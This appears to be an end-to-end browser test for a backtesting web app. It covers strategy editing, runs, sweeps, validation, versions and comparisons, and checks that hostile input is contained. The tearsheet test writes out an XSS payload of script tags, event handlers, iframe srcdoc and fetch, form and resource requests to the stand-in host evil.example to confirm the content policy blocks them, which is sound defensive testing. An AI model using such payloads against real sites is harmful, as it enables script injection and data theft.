// The whole way of a person through the application, against the real program with the demo market:
// from an idea to a doubted, compared and saved result; what hostile texts do; what happens when the
// server goes and comes; how much is loaded; whether everybody can use it.
//
//   node journey.mjs BINARY [PART]
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import { PNG } from 'pngjs';
import { Gallery } from '../browser/pictures.mjs';
import { audit, check, fault, faults, go, launch, open } from './browser.mjs';
import { family, fill, search } from './fixture.mjs';
import { Server } from './server.mjs';
import { kept, pictured, walk } from './views.mjs';

const binary = resolve(process.argv[2]);
const only = process.argv[3];
const dist = resolve(new URL('../../frontend/dist', import.meta.url).pathname);
const server = await new Server(binary).start();
const ids = await fill(server);
const browser = await launch();

const parts = [];
const part = (name, run) => parts.push([name, run]);

const text = (page, selector) => page.locator(selector).first().textContent();
const has = async (page, where, pattern, selector = 'main') => {
  await page.waitForFunction(([s, p]) => new RegExp(p).test(document.querySelector(s)?.textContent ?? ''), [selector, pattern.source], { timeout: 30_000 }).catch(() => {});
  const t = (await page.locator(selector).first().textContent().catch(() => '')) ?? '';
  check(where, pattern.test(t), `${selector} has no ${pattern}: ${t.slice(0, 300)}`);
};
const editor = '.editor';
const write = async (page, what) => {
  await page.evaluate((s) => document.querySelector(s)?.shadowRoot?.querySelector('.cm-content')?.focus(), editor);
  await page.keyboard.press('Control+End');
  await page.keyboard.type(what);
};

// Every view can be used by everybody, and looks as it did when somebody looked at it.
part('every view', async (where) => {
  const gallery = new Gallery(PNG, kept);
  await walk(browser, binary, server, pictured, async (page, file, whole) => {
    const shot = await page.screenshot({ fullPage: whole });
    const what = gallery.compare(file, shot);
    if (what) {
      const now = join(tmpdir(), `${file}.png`);
      writeFileSync(now, shot);
      fault(file, `${what}: it looks as in ${now} now; when that is meant, shots.mjs --rewrite`);
    }
    await audit(page, `${where}, ${file}`);
  });
  check(where, gallery.unseen().length === 0, `pictures are kept of views that there are no more: ${gallery.unseen()}`);
});

part('idea to result', async (where) => {
  const page = await open(browser, where, { origin: server.url });
  const answer = await page.goto(`${server.url}/`);
  const policy = answer.headers()['content-security-policy'] ?? '';
  for (const want of ["script-src 'self'", "style-src 'self'", "require-trusted-types-for 'script'"]) check(where, policy.includes(want), `the policy has no ${want}: ${policy}`);
  check(where, !policy.includes('unsafe'), `the policy has something unsafe: ${policy}`);
  await page.getByRole('link', { name: /RSI dip in a rising market/ }).click();
  await page.waitForSelector('.seeing canvas', { state: 'attached' });
  await has(page, where, /Warm-up199 bars/, '.seeing');
  await has(page, where, /made up by the demo market/, '.seeing');
  // A fault is said with its place, completion offers words, and the layout is one.
  await write(page, 'sise: 3\n');
  await has(page, where, /unknown key "sise"/, '.faults');
  check(where, await page.getByRole('button', { name: 'Run backtest' }).isDisabled(), 'a file with faults can be run');
  for (let i = 0; i < 8; i++) await page.keyboard.press('Backspace');
  await page.keyboard.type('acc');
  await page.keyboard.press('Control+Space');
  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-tooltip-autocomplete')?.textContent?.includes('account'), null, { timeout: 15_000 }).catch(() => fault(where, 'completion does not offer account'));
  await page.keyboard.press('Escape');
  for (let i = 0; i < 3; i++) await page.keyboard.press('Backspace');
  await has(page, where, /No faults/, '.writing');
  const hover = await page.evaluateHandle(() => [...(document.querySelector('.editor')?.shadowRoot?.querySelectorAll('.cm-line') ?? [])].find((l) => l.textContent?.startsWith('costs:')));
  const box = await hover.asElement()?.boundingBox();
  let hint = '';
  for (let i = 0; i < 20 && !hint; i++) {
    await page.mouse.move(box.x + 18 + (i % 5), box.y + 8);
    await page.waitForTimeout(700);
    hint = (await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-hint')?.textContent)) ?? '';
  }
  check(where, /which bars are used|costs of trading/.test(hint), `hovering explains ${hint || 'nothing'}`);
  await page.mouse.move(5, 5);
  await page.getByRole('button', { name: 'Format' }).click();
  await has(page, where, /Laid out/, '.toasts');
  // The form and the text are one file.
  await page.getByRole('radio', { name: 'Builder' }).check();
  const boxes = page.locator('.builder section').nth(1).locator('input[aria-label$="target"]');
  await boxes.first().fill('sma(close, 10)');
  await boxes.first().press('Tab');
  await page.getByRole('radio', { name: 'Text' }).check();
  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('exit: close > sma(close, 10)'), null, { timeout: 15_000 }).catch(() => fault(where, 'what the form changed is not in the text'));
  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# source: L. Connors')), 'the form lost the comments');
  // Run it and read the result.
  await page.waitForFunction(() => !document.querySelector('.button.main')?.disabled);
  await page.keyboard.press('Control+Enter');
  await page.waitForURL(/#\/runs\/[0-9A-Z]{26}/);
  await page.waitForSelector('.verdict', { timeout: 60_000 });
  await has(page, where, /Do not act on this before it is explained/, '.verdict');
  await page.waitForSelector('.uplot canvas', { state: 'attached' });
  await has(page, where, /2024.*2023.*2022/, 'table.heat');
  await page.getByRole('radio', { name: 'Trades' }).check();
  await page.waitForSelector('.trading .canvas canvas', { state: 'attached' });
  await page.locator('.trades .vrow:not(.vhead)').nth(2).click();
  await has(page, where, /Decided at/, '.journal');
  await page.keyboard.press('j');
  await page.waitForFunction(() => document.querySelector('.vrow.chosen span')?.textContent === '4', null, { timeout: 15_000 }).catch(() => fault(where, 'the key j does not go to the next trade'));
  await page.getByRole('radio', { name: 'Metrics' }).check();
  await page.locator('details.metric', { hasText: /^Sharpe ratio/ }).first().locator('summary').click();
  await has(page, where, /higher is better/, 'details.metric[open]');
  await page.getByRole('radio', { name: 'Settings' }).check();
  await has(page, where, /Fingerprint[0-9a-f]{64}/);
  await page.getByRole('radio', { name: 'Tearsheet' }).check();
  const sheet = page.frameLocator('iframe.tearsheet');
  await sheet.getByText('rsi-dip').first().waitFor();
  await sheet.locator('svg[data-chart=equity]:visible').first().hover();
  await sheet.locator('output[data-for=equity]:visible', { hasText: /\d{4}-\d\d-\d\d/ }).waitFor({ timeout: 10_000 }).catch(() => fault(where, 'the cross-hair of the tearsheet does not work: its script is blocked'));
  const run = /[0-9A-Z]{26}/.exec(page.url())[0];
  const a = await server.ask('GET', `/api/backtest/results/${run}?wait=30`);
  check(where, a.strategy === 'rsi-dip' && a.status === 'succeeded', `the server has ${a.strategy} ${a.status}`);
  // A clone says only what was decided, and gives the same result.
  await page.getByRole('link', { name: 'Clone with changes' }).click();
  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('sma(close, 10)'), null, { timeout: 30_000 }).catch(() => fault(where, 'the clone has not the settings of the run'));
  const cloned = await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-content')?.textContent ?? '');
  check(where, !cloned.includes('limit_touch'), `the clone writes defaults: ${cloned}`);
  await page.waitForFunction(() => !document.querySelector('.bench-head .button.main')?.disabled);
  await page.getByRole('button', { name: 'Run backtest' }).click();
  await page.waitForFunction((old) => /[0-9A-Z]{26}/.exec(location.hash)?.[0] !== old && document.querySelector('.verdict'), run);
  const again = /[0-9A-Z]{26}/.exec(page.url())[0];
  const b = await server.ask('GET', `/api/backtest/results/${again}?wait=30`);
  check(where, b.metrics.total_return === a.metrics.total_return, `the clone gave ${b.metrics.total_return}, the run ${a.metrics.total_return}`);
  await page.context().close();
});

part('saving and versions', async (where) => {
  const page = await open(browser, where, { origin: server.url, allow: [/404.*api\/strategies/] });
  await page.goto(`${server.url}/#/edit`);
  await page.waitForSelector('.editor');
  await write(page, '# mine\n');
  await page.waitForFunction(() => Object.values(localStorage).some((v) => /# mine(\n|\\n)/.test(v))); // slow machines keep the last letter a moment later
  await page.reload();
  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# mine'), null, { timeout: 30_000 }).catch(() => fault(where, 'a draft is lost when the page is loaded again'));
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  const name = page.getByLabel('Name');
  await name.fill('kept idea');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.waitForURL(/#\/edit\/kept/);
  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# mine'));
  await write(page, '# more\n');
  await page.keyboard.press('Control+s');
  await has(page, where, /\+ # more/, '.difference');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.waitForSelector('dialog', { state: 'detached' });
  const saved = await server.ask('GET', '/api/strategies/kept%20idea');
  check(where, saved.version === 2 && saved.text.endsWith('# mine\n# more\n'), `the server has version ${saved.version}: ${saved.text}`);
  // The version before is opened, held against the present one, and taken back.
  await page.getByRole('button', { name: 'Versions' }).click();
  await page.getByRole('button', { name: /^Version 1/ }).click();
  await has(page, where, /\+ # more/, 'dialog .difference');
  await page.getByRole('button', { name: 'Take this one back' }).click();
  await page.waitForFunction(() => { const t = document.querySelector('.editor')?.shadowRoot?.textContent ?? ''; return t.includes('# mine') && !t.includes('# more'); }, null, { timeout: 15_000 }).catch(() => fault(where, 'the first version is not in the editor'));
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.waitForSelector('dialog', { state: 'detached' });
  const restored = await server.ask('GET', '/api/strategies/kept%20idea');
  check(where, restored.version === 3 && restored.text.endsWith('# mine\n'), `after taking version 1 back the server has version ${restored.version}: ${restored.text}`);
  await page.context().close();
});

// A sweep is started from its form, its map fills while it goes on, and a cell of it is run alone.
part('a sweep', async (where) => {
  await server.ask('PUT', '/api/strategies/dips', { text: family.replace('universe: {symbols: [ACME]}\n', '').replace('bars: 1d, from: 2016-01-01', 'bars: 1m') });
  const page = await open(browser, where, { origin: server.url });
  await page.goto(`${server.url}/#/edit/dips`);
  await page.getByRole('button', { name: 'Sweep', exact: true }).click();
  const form = page.getByRole('dialog');
  await has(page, where, /96 combinations/, '.search-form');
  await form.getByRole('textbox', { name: 'level =' }).fill('10..40 step 10');
  await form.locator('.form-field', { hasText: 'Min trades' }).locator('input').fill('5');
  await form.getByLabel('Require').fill('max_drawdown > -0.99');
  await form.getByLabel('Require').press('Tab');
  await has(page, where, /48 combinations/, '.search-form');
  await audit(page, `${where}, form`);
  await form.locator('.form-field', { hasText: 'Objective' }).locator('input').fill('shrape');
  await form.locator('.form-field', { hasText: 'Objective' }).locator('input').press('Tab');
  await has(page, where, /shrape/, '.search-form .faults');
  check(where, await form.getByRole('button', { name: 'Start the sweep' }).isDisabled(), 'a sweep for a metric that is not there can be started');
  await form.locator('.form-field', { hasText: 'Objective' }).locator('input').fill('total_return / volatility');
  await form.locator('.form-field', { hasText: 'Objective' }).locator('input').press('Tab');
  await form.getByRole('button', { name: 'Start the sweep' }).click();
  await page.waitForURL(/#\/runs\/[0-9A-Z]{26}/);
  const id = /[0-9A-Z]{26}/.exec(page.url())[0];
  await page.waitForSelector('.heat-box canvas', { timeout: 120_000 });
  const live = await page.evaluate(() => document.querySelector('main')?.textContent?.includes('Tried so far') === true);
  console.log(`   the map was seen ${live ? 'while it filled' : 'when it was full: the sweep was faster than the page'}`);
  await page.getByRole('heading', { name: 'All of them' }).waitFor({ timeout: 120_000 });
  const table = await server.ask('GET', `/api/backtest/results/${id}/rows`);
  check(where, table.total === 48 && table.columns.includes('level') && table.objective.length === 48, `the server has ${table.total} rows`);
  const asked = await server.ask('GET', `/api/backtest/results/${id}?include=config`);
  check(where, asked.config.search.objective === 'total_return / volatility' && asked.config.search.min_trades === 5, `the sweep was asked for ${JSON.stringify(asked.config.search)}`);
  check(where, (await page.evaluate(() => document.querySelectorAll('.crow').length)) > 10, 'the list of combinations is empty');
  // Under the pointer is the cell that the axes say; clicking it shows it, and it is run alone.
  const canvas = page.locator('.heat-box canvas');
  const box = await canvas.boundingBox();
  await page.mouse.move(box.x + 66, box.y + 12);
  await has(page, where, /length 2, level 40/, '.heat-map .read');
  await canvas.click({ position: { x: 66, y: 12 } });
  await page.getByRole('button', { name: 'Run this one' }).click();
  await page.waitForFunction((old) => /[0-9A-Z]{26}/.exec(location.hash)?.[0] !== old && document.querySelector('.verdict'), id, { timeout: 60_000 });
  const one = await server.ask('GET', `/api/backtest/results/${/[0-9A-Z]{26}/.exec(page.url())[0]}?include=config&wait=30`);
  const at = table.values.length.findIndex((v, i) => v === 2 && table.values.level[i] === 40);
  check(where, one.kind === 'run' && JSON.stringify(one.config.params).includes('40'), `a cell ran ${one.kind} with ${JSON.stringify(one.config.params)}`);
  check(where, Math.abs(one.metrics.total_return - table.values.total_return[at]) < 1e-9, `the run of a cell returned ${one.metrics.total_return}, its row says ${table.values.total_return[at]}`);
  await page.context().close();
});

// The map of a sweep that goes on fills from what the server tells, also for a page that comes later.
part('a map that fills', async (where) => {
  const id = await search(server, 'sweep');
  const page = await open(browser, where, { origin: server.url });
  const row = (a, b, v) => ({ a, b, v });
  const told = (rows) => `event: rows\ndata: ${JSON.stringify({ params: ['length', 'level'], symbol: rows.map(() => 'ACME'), at: rows.map((r) => [r.a, r.b]), value: rows.map((r) => r.v), eligible: rows.map(() => true) })}\n\n`;
  const state = { ...(await server.ask('GET', `/api/backtest/results/${id}`)), status: 'running' };
  await page.route(new RegExp(`/results/${id}(\\?.*)?$`), async (r) => (r.request().url().includes('include') ? r.continue() : r.fulfill({ json: state })));
  await page.route(/\/events$/, (r) => r.fulfill({ contentType: 'text/event-stream', body: told([row(2, 10, 0.1), row(3, 10, 0.4)]) + told([row(2, 20, -0.2)]) }));
  await page.goto(`${server.url}/#/runs/${id}`);
  await page.waitForSelector('.heat-box canvas');
  await page.locator('.heat-box').focus();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowUp');
  await has(page, where, /length 2, level 20.*-?−0\.20/, '.heat-map .read');
  await page.keyboard.press('ArrowRight');
  await has(page, where, /Not tried/, '.heat-map .read');
  await page.context().close();
});

// Where bars leave open whether the stop or the target came first, both answers stand beside the run.
part('stop or target', async (where) => {
  const id = await server.run({ strategy: { name: 'both in a bar', universe: { symbols: ['ACME'] }, entry: 'close > sma(close, 20)', exit: { stop: 'entry_price * 0.995', target: 'entry_price * 1.005' } } });
  const { ambiguity } = await server.ask('GET', `/api/backtest/results/${id}?include=ambiguity`);
  check(where, ambiguity?.bars > 0 && ambiguity.stop_first.metrics.final_equity <= ambiguity.target_first.metrics.final_equity, `the run leaves nothing open: ${JSON.stringify(ambiguity)}`);
  const page = await open(browser, where, { origin: server.url });
  await page.goto(`${server.url}/#/runs/${id}`);
  const dollars = (x) => `\\$${Math.round(x).toLocaleString('en-US')}`;
  await has(page, where, new RegExp(`At the end${dollars(ambiguity.stop_first.metrics.final_equity)}.*${dollars(ambiguity.target_first.metrics.final_equity)}`), 'table.either');
  await page.context().close();
});

// A validation is started from its form, and answers its questions with pictures.
part('a validation', async (where) => {
  const page = await open(browser, where, { origin: server.url });
  const id = await search(server, 'validate');
  await page.goto(`${server.url}/#/edit?run=${id}&start=validate`);
  const form = page.getByRole('dialog');
  await has(page, where, /96 combinations/, '.search-form');
  await form.getByRole('textbox', { name: 'length =' }).fill('2, 3');
  await form.locator('.form-field', { hasText: /^Draws/ }).locator('input').fill('99').catch(async () => {
    await form.getByRole('button', { name: /^All/ }).last().click();
    await form.locator('.form-field', { hasText: /^Draws/ }).locator('input').fill('99');
  });
  await page.keyboard.press('Tab');
  await form.getByRole('button', { name: 'Start the validation' }).click();
  await page.waitForURL(/#\/runs\/[0-9A-Z]{26}/);
  await page.waitForSelector('.questions', { timeout: 180_000 });
  const doc = await server.ask('GET', `/api/backtest/results/${/[0-9A-Z]{26}/.exec(page.url())[0]}/result`);
  check(where, doc.search.combinations === 16 && doc.against_cash.draws === 99, `the validation has ${doc.search.combinations} combinations and ${doc.against_cash?.draws} draws`);
  check(where, (await page.locator('.questions details').count()) === doc.questions.length, 'not every question is answered');
  await page.getByRole('radio', { name: 'Walk-forward' }).check();
  await page.waitForSelector('.uplot canvas', { state: 'attached' });
  check(where, (await page.locator('.timeline rect').count()) === 2 * doc.walk_forward.windows.length, 'not every window is drawn');
  await page.getByRole('radio', { name: 'Overfitting' }).check();
  await page.waitForSelector('.histogram rect');
  check(where, (await page.locator('.bar-row tbody tr').count()) === doc.cpcv.paths.length, 'not every path is drawn');
  await page.getByRole('radio', { name: 'Sensitivity' }).check();
  await has(page, where, /Orders that come later.*1 later.*Costs that are higher.*Other starts.*Neighbours of length/);
  await page.getByRole('radio', { name: 'Whole page' }).check();
  await page.frameLocator('iframe.tearsheet').getByText(/Walk-forward/).first().waitFor();
  await page.context().close();
});

// handle zooms a tearsheet, shows it whole again, and turns its scale and its colours.
async function handle(where, page) {
  const chart = page.locator('svg.wide[data-chart=equity]:visible').first(), line = chart.locator('[data-line="0"]');
  await chart.scrollIntoViewIfNeeded();
  const box = await chart.boundingBox(), whole = await line.getAttribute('d');
  await page.mouse.move(box.x + box.width * 0.4, box.y + 50);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.7, box.y + 60, { steps: 4 });
  await page.mouse.up();
  const zoomed = await line.getAttribute('d');
  check(where, zoomed !== whole && !/NaN|Infinity/.test(zoomed), `dragging over a chart draws ${zoomed.slice(0, 60)}`);
  await page.locator('button.whole:visible').first().click();
  check(where, (await line.getAttribute('d')) === whole, 'the button does not bring the whole period back');
  await page.locator('label:has(#scale-log)').click();
  check(where, (await page.locator('.log-scale:visible').count()) > 0 && (await page.locator('.lin-scale:visible').count()) === 0, 'the scale does not become logarithmic');
  await page.locator('label:has(#theme-dark)').click();
  const dark = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  check(where, dark.match(/\d+/g).slice(0, 3).every((c) => +c < 60), `the dark theme has the background ${dark}`);
}

// elements counts those of a page that a text could make.
const elements = (page) => page.evaluate(() => ['script', 'img', 'iframe', 'object', 'form', 'base', 'link', 'a[href^="javascript:"]', '[onload]', '[onerror]'].map((s) => `${s} ${document.querySelectorAll(s).length}`).join(', '));

// A tearsheet runs the one script of this program, in an origin of its own, and no other one, whatever
// is in the file.
part('tearsheets', async (where) => {
  const id = ids.all[0];
  const address = `${server.url}/api/files/tearsheet/${id}.html`;
  const file = join(server.folder, 'results', 'tearsheets', `${id}.html`);
  const whole = readFileSync(file, 'utf8');
  const page = await open(browser, where, { origin: server.url });
  await page.goto(address);
  await page.locator('svg[data-chart=equity]:visible').first().hover();
  await page.locator('output[data-for=equity]:visible', { hasText: /\d{4}-\d\d-\d\d/ }).waitFor({ timeout: 10_000 }).catch(() => fault(where, 'the cross-hair does not work: the script is blocked'));
  check(where, (await page.evaluate(() => globalThis.origin)) === 'null', 'a tearsheet has the origin of the application');
  await handle(where, page);
  check(where, /deflated Sharpe after \d+ trial/.test(await page.locator('.strip').first().textContent()), 'the tearsheet does not count the trials of the history');
  const clean = await elements(page);
  await page.context().close();
  // Names and notes of people are text in it, wherever they stand.
  for (const h of hostile.slice(0, 5)) {
    const own = JSON.stringify(h);
    const text = `name: ${own}\nnotes: ${own}\ndata: {bars: 1d, from: 2015-01-01}\nuniverse: {symbols: [ACME, BCPC, SPLIT]}\nentry: rsi(close, 2) < 10 and close > sma(close, 200)\n`
      + `exit: [{name: ${own}, when: close > sma(close, 5)}]\nbenchmark: ACME\n`;
    const run = await server.run({ strategy: text, name: h, notes: h });
    const hurt = await open(browser, where, { origin: server.url });
    await hurt.goto(`${server.url}/api/files/tearsheet/${run}.html`);
    check(where, (await hurt.locator('h1').textContent()) === h, `the name ${h} is shown as ${await hurt.locator('h1').textContent()}`);
    check(where, (await hurt.getByText(h, { exact: true }).count()) > 2, `the exit ${h} is not shown`);
    const found = await elements(hurt);
    check(where, found === clean, `${h} makes elements: ${found} instead of ${clean}`);
    await hurt.context().close();
  }
  // A file that was changed is none: its sum is not the one that the run wrote down.
  const other = Buffer.from(whole);
  other.write('<script>document.title="EVIL"</script>', other.indexOf('<header>'));
  writeFileSync(file, other);
  const refused = await fetch(address);
  writeFileSync(file, whole);
  check(where, refused.status === 500 && (await refused.json()).code === 'artifact-damaged', `a changed tearsheet is answered ${refused.status}`);
  // And were a hostile text ever within one, the policy keeps it from doing anything. (Leading elsewhere by
  // a refresh is what browsers allow whoever may run a script; that is left to the sum.)
  const policy = (await fetch(address)).headers.get('content-security-policy');
  const evil = `<!doctype html><title>t</title><script>document.title='EVIL'</script><img src=x onerror="document.title='EVIL'"><svg onload="document.title='EVIL'"></svg>`
    + `<iframe srcdoc="<script>top.document.title='EVIL'</script><img src=//evil.example/framed>"></iframe><link rel=stylesheet href=//evil.example/a.css><img src=//evil.example/a.png>`
    + `<style>@import url(//evil.example/b.css); body{background:url(//evil.example/b.png)}</style><object data=//evil.example/o></object>`
    + `<form id=f action=//evil.example/form><input name=a></form><script>fetch('//evil.example/fetch');f.submit()</script><base href=//evil.example/>`;
  const reached = async (headers) => {
    const hurt = await open(browser, where, { allow: [/.*/] });
    const seen = [];
    await hurt.route(/evil\.example/, (r) => { seen.push(r.request().url()); return r.abort(); }); // what the policy blocks does not come here
    await hurt.route('**/hostile.html', (r) => r.fulfill({ contentType: 'text/html', headers, body: evil }));
    await hurt.goto(`${server.url}/hostile.html`).catch(() => {});
    await hurt.waitForTimeout(1500);
    if (/EVIL/.test(await hurt.title().catch(() => ''))) seen.push('a script ran');
    await hurt.context().close();
    return seen;
  };
  const leaked = await reached({ 'Content-Security-Policy': policy });
  check(where, leaked.length === 0, `a hostile tearsheet reaches ${leaked}`);
  const control = await reached({});
  check(where, control.length >= 6, `without a policy the hostile file reaches only ${control}: it proves little`);
});

// Texts that would do something if they were taken for code: in names, notes, tags, symbols, errors, what scripts
// print, what is sought and what is saved; in the application, in tearsheets, in tables and in problems. Dialogs,
// errors, violations of the policy and requests elsewhere are faults of every page (browser.mjs).
const hostile = JSON.parse(readFileSync(new URL('../../server/testdata/texts.json', import.meta.url), 'utf8'));

part('hostile texts', async (where) => {
  check(where, hostile.length >= 60, `only ${hostile.length} texts`);
  const own = await new Server(binary, { env: { BACKTESTER_USER_QUEUED: '0', BACKTESTER_QUEUED: '0', BACKTESTER_RATE_PER_SECOND: '10000', BACKTESTER_RATE_BURST: '10000' } }).start();
  const tag = (h) => [...h.replaceAll(',', ';')].slice(0, 40).join('');
  const market = { universe: { symbols: ['ACME'] }, data: { from: '2024-11-01' } };
  const script = (h, rest) => ({ 's.star': `def on_bar(now):\n    ${rest}(${JSON.stringify(h)})\n` });
  const begun = [];
  for (const [i, h] of hostile.entries()) {
    const labels = { name: h, notes: h, tags: [tag(h)] };
    const id = (await own.ask('POST', '/api/backtest/run', { strategy: { name: h, notes: h, ...market, script: 's.star' }, files: script(h, 'print'), ...labels })).run_id;
    const broken = (await own.ask('POST', '/api/backtest/run', { strategy: { name: h, ...market, script: 's.star' }, files: script(h, 'fail'), ...labels })).run_id;
    await own.ask('PUT', `/api/strategies/s${i}`, { text: `# title: ${h}\n# source: ${h}\nname: s\nentry: ${h}\n${h}: 1\n` });
    begun.push([h, id, broken]);
  }
  for (const [h, id, broken] of begun) {
    const [a, b] = [await own.ask('GET', `/api/backtest/results/${id}?wait=30`), await own.ask('GET', `/api/backtest/results/${broken}?wait=30`)];
    check(where, a.status === 'succeeded' && b.status === 'failed' && b.error.errors[0].detail.includes(h), `${h}: ${a.status}, ${b.status} ${JSON.stringify(b.error)}`);
  }
  const page = await open(browser, where, { origin: own.url, allow: [/Failed to load resource/] });
  // shown waits until a text is on the page as a text, and looks that nothing of it became more than that.
  const shown = async (hash, sink, selector, h) => {
    await page.evaluate((to) => { location.hash = to; }, hash);
    await page.waitForFunction(([s, x]) => [...document.querySelectorAll(s)].some((e) => (e.value ?? e.textContent).includes(x)), [selector, h], { timeout: 15_000 })
      .catch(async () => fault(where, `${sink} does not show ${h}: ${(await text(page, 'body')).slice(0, 200)}`));
    const made = await page.evaluate(() => document.querySelectorAll('main script, main img, main object, main embed, main base, main link, main meta, main marquee, main video, main audio, main math, main iframe:not(.tearsheet), main [onclick], main [onerror], main [onload], a[href^="javascript:" i], a[href^="data:text" i], a[href^="vbscript:" i]').length);
    check(where, made === 0, `${sink} made ${made} elements of ${h}`);
  };
  await page.goto(`${own.url}/`);
  await page.waitForSelector('.idea');
  for (const [i, [h, id, broken]] of begun.entries()) {
    await shown(`#/runs/${id}`, 'a run', '.labels .notes', h);
    await shown(`#/runs/${broken}`, 'a failed run', '.trouble', h.slice(0, 60));
    await shown(`#/runs?q=${encodeURIComponent(h)}`, 'the history', '.rrow, .empty', h.slice(0, 20).trim());
    await shown(`#/data/${encodeURIComponent(h)}`, 'a symbol', 'main', h.slice(0, 20).trim());
    if (i % 8 === 0) {
      const ten = begun.slice(i, i + 8).map(([, x]) => x);
      await shown(`#/compare?ids=${ten.join(',')}`, 'the comparison', 'table.compare', h.slice(0, 20).trim());
    }
    if (i % 4 === 0) await shown(`#/edit/s${i}`, 'the editor', '.faults', ':'); // a place, LINE:COLUMN
  }
  await shown('#/strategies', 'the strategies', 'main', 's0');
  await page.context().close();
  // Opened by themselves: tearsheets run in an origin of their own, tables are saved and never shown, problems are text.
  const alone = await open(browser, where, { origin: own.url, allow: [/Failed to load resource/] });
  const plain = (await own.ask('GET', `/api/files/tearsheet/${await own.run({ strategy: { name: 'plain', ...market, entry: 'close > 5' } })}.html`)).split('<script').length - 1;
  for (const [h, id] of begun) {
    await alone.goto(`${own.url}/api/files/tearsheet/${id}.html`);
    const sheet = await alone.evaluate(() => ({ shows: document.body.textContent, made: document.querySelectorAll('img, iframe, object, embed, link, base, form, marquee, video, audio, math, [onclick], [onerror], [onload], a[href^="javascript:" i]').length, scripts: document.scripts.length }));
    check(where, sheet.made === 0 && sheet.scripts === plain && sheet.shows.includes(h), `the tearsheet of ${h}: ${sheet.made} elements, ${sheet.scripts} scripts, shown ${sheet.shows.includes(h)}`);
    for (const path of [`/api/data/bars/${encodeURIComponent(h)}`, `/api/backtest/history?sort=${encodeURIComponent(h)}`]) {
      await alone.goto(own.url + path);
      const made = await alone.evaluate(() => document.querySelectorAll('script, img, iframe, svg, object').length);
      check(where, made === 0, `the problem at ${path} made ${made} elements`);
    }
  }
  const saved = alone.waitForEvent('download');
  await alone.goto(`${own.url}/api/files/csv/${begun[0][1]}.csv`).catch(() => {}); // a download is no page
  check(where, (await saved).suggestedFilename() === `${begun[0][1]}.csv`, 'a table is shown');
  for (const [h, id] of begun) {
    const table = await own.ask('GET', `/api/files/csv/${id}.csv`);
    check(where, !/(^|,)"?[=+@\t]/m.test(table), `the table of ${h} has a formula`);
  }
  await alone.context().close();
  await own.end();
  console.log(`   ${hostile.length} texts`);
});

part('data', async (where) => {
  const page = await open(browser, where, { origin: server.url, allow: [/424.*calendar/] });
  await page.goto(`${server.url}/#/data`);
  await page.waitForSelector('.srow a');
  await page.getByRole('searchbox', { name: 'Search symbols' }).fill('halt');
  await page.waitForFunction(() => document.querySelectorAll('.srow a').length === 1);
  await page.locator('.srow a').click();
  // The one session that lacks a bar is seen in its month, and named.
  const c = await server.ask('GET', '/api/data/calendar/HALT');
  check(where, c.missing.length === 1 && c.sessions - c.held === 1, `HALT lacks ${c.missing}`);
  await page.waitForSelector('.calendar td.gap');
  check(where, (await page.locator('.calendar td.gap').count()) === 1 && (await page.locator('.calendar td.full').count()) === c.months.length - 1, 'the hole is not the only one that is seen');
  await page.getByText('Sessions without a bar', { exact: true }).click();
  await has(page, where, new RegExp(c.missing[0]));
  check(where, (await page.locator('.finding').count()) === c.findings.length, `not all of ${c.findings.length} findings are shown`);
  await page.getByRole('radio', { name: 'Minutes', exact: true }).check();
  await has(page, where, /no bars|missing|nothing|data/i, '.trouble');
  await page.context().close();
});

part('history and comparison', async (where) => {
  // The newest three runs trade by different rules, whatever was run before them.
  for (const strategy of ['macd-trend', 'double-sevens', 'rsi-dip']) {
    const { run_id } = await server.ask('POST', '/api/backtest/run', { strategy, symbols: ['ACME'] });
    while (!['succeeded', 'failed'].includes((await server.ask('GET', `/api/backtest/results/${run_id}`)).status)) await new Promise((done) => setTimeout(done, 50));
  }
  const page = await open(browser, where, { origin: server.url });
  await page.goto(`${server.url}/#/runs`);
  await page.waitForSelector('.rrow a');
  await page.getByRole('searchbox', { name: 'Search runs' }).fill('golden');
  await page.waitForFunction(() => document.querySelectorAll('.rrow a').length === 1).catch(() => fault(where, 'the search for golden does not find one run'));
  await page.getByRole('searchbox', { name: 'Search runs' }).fill('');
  await page.waitForFunction(() => document.querySelectorAll('.rrow a').length > 3);
  const star = page.getByRole('button', { name: /^Star / }).first();
  const was = await star.getAttribute('aria-pressed');
  await star.click();
  await page.waitForFunction((w) => document.querySelector('.rrow .star')?.getAttribute('aria-pressed') !== w, was).catch(() => fault(where, 'a star cannot be set'));
  for (const i of [0, 1, 2]) await page.locator('.rrow input[type=checkbox]:enabled').nth(i).check(); // only runs have curves to compare
  await page.getByRole('link', { name: 'Compare 3' }).click();
  await page.waitForSelector('table.compare');
  check(where, (await page.locator('table.compare').first().locator('thead th').count()) === 4, 'not three runs are compared');
  await page.waitForSelector('.uplot canvas', { state: 'attached' });
  // Two of them are held against each other trade by trade; a trade leads to its place in its run.
  const two = page.locator('.two-runs');
  await two.locator('table.pairs tbody tr').first().waitFor();
  await has(page, where, /The first difference: \d{4}-\d\d-\d\d, /, '.two-runs');
  await two.getByLabel('First run').selectOption('2');
  await page.waitForFunction(() => /pair=/.test(location.hash));
  const [one, other] = new URLSearchParams(page.url().split('?')[1]).get('pair').split(',');
  const told = await server.ask('GET', `/api/backtest/compare/trades?a=${one}&b=${other}&show=only_a`);
  check(where, told.total > 0, 'two strategies made the same trades');
